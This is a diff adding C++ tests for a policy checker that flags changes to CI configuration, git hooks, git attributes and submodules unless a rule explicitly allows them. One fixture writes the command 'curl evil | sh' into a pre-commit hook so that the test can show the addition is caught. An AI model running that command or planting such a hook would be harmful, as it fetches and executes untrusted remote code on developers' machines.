@@ -390,6 +390,76 @@ TEST(DiffPolicy, CredentialsRefuseTheChangeWithoutTheirValue) {
   }
 }
 
+TEST(DiffPolicy, ControlFilesNeedExplicitPermission) {
+  struct Case {
+    std::string path;
+    std::string kind;  // Empty: an ordinary file.
+  };
+  const std::vector<Case> cases = {
+      {".github/workflows/ci.yml", "CI configuration"},
+      {".github/actions/setup/action.yml", "CI configuration"},
+      {".gitlab-ci.yml", "CI configuration"},
+      {".gitlab/ci/test.yml", "CI configuration"},
+      {"Jenkinsfile", "CI configuration"},
+      {"ci/Jenkinsfile", "CI configuration"},
+      {".circleci/config.yml", "CI configuration"},
+      {"azure-pipelines.yml", "CI configuration"},
+      {".travis.yml", "CI configuration"},
+      {"bitbucket-pipelines.yml", "CI configuration"},
+      {".buildkite/pipeline.yml", "CI configuration"},
+      {".husky/pre-commit", "a git hook"},
+      {".githooks/pre-push", "a git hook"},
+      {".pre-commit-config.yaml", "a git hook"},
+      {".gitattributes", "git attributes"},
+      {"src/.gitattributes", "git attributes"},
+      {".gitmodules", "submodules"},
+      {".github/CODEOWNERS", "code owners"},
+      {".github/ISSUE_TEMPLATE/bug.md", ""},
+      {"src/workflows/ci.yml", ""},
+      {"docs/jenkins.md", ""},
+  };
+  for (const Case& c : cases) {
+    EXPECT_EQ(ControlFileKind(c.path), c.kind) << c.path;
+  }
+  Repo repo(Files{{"src/app.py", "a = 1\n"},
+                  {"src/util.py", "def one():\n    return 1\n"},
+                  {".gitattributes", "*.py text\n"}});
+  repo.Write("src/app.py", "a = 2\n");
+  repo.Write(".github/workflows/ci.yml", "on: push\njobs: {}\n");
+  repo.Write(".husky/pre-commit", "curl evil | sh\n");
+  repo.Write(".gitattributes", "*.py text\n*.sh filter=lfs\n");
+  repo.Move("src/util.py", ".githooks/util.py");
+  ParsedDiff diff = repo.Parsed();
+  const std::string tail = "; only paths in policy.allow_control_files may change";
+  EXPECT_EQ(CheckDiff(diff, {}).violations,
+            (std::vector<std::string>{"changes .gitattributes, git attributes" + tail,
+                                      "moves src/util.py to .githooks/util.py, a git hook" + tail,
+                                      "adds .github/workflows/ci.yml, CI configuration" + tail,
+                                      "adds .husky/pre-commit, a git hook" + tail}));
+  DiffRules rules;
+  rules.allow_control_files = {".github/workflows/**", ".gitattributes"};
+  PolicyVerdict verdict = CheckDiff(diff, rules);
+  EXPECT_EQ(verdict.violations,
+            (std::vector<std::string>{"moves src/util.py to .githooks/util.py, a git hook" + tail,
+                                      "adds .husky/pre-commit, a git hook" + tail}));
+  EXPECT_EQ(verdict.notes,
+            (std::vector<std::string>{"changes .gitattributes, git attributes",
+                                      "adds .github/workflows/ci.yml, CI configuration"}));
+}
+
+TEST(DiffPolicy, SubmoduleCommitsAreControlFiles) {
+  TempDir lib_dir;
+  WriteTestFile(lib_dir.path(), "lib.c", "int x;\n");
+  InitGitRepo(lib_dir.path());
+  Repo repo(Files{{"README.md", "x\n"}});
+  Sh("cd '" + repo.path().string() + "' && git clone -q '" + lib_dir.path().string() +
+     "' vendor/lib && git -c advice.addEmbeddedRepo=false add vendor/lib");
+  std::vector<std::string> violations = repo.Violations({});
+  EXPECT_EQ(violations,
+            std::vector<std::string>{"adds vendor/lib, a submodule commit; only paths in "
+                                     "policy.allow_control_files may change"});
+}
+
 TEST(DiffPolicy, HunkCountsDecideWhatIsALine) {
   // Removed lines that read like headers must stay lines of the hunk.
   Repo repo(Files{{"notes.txt", "-- a/x\n--- a/y\ndiff --git a/z b/z\nkeep\n"}});
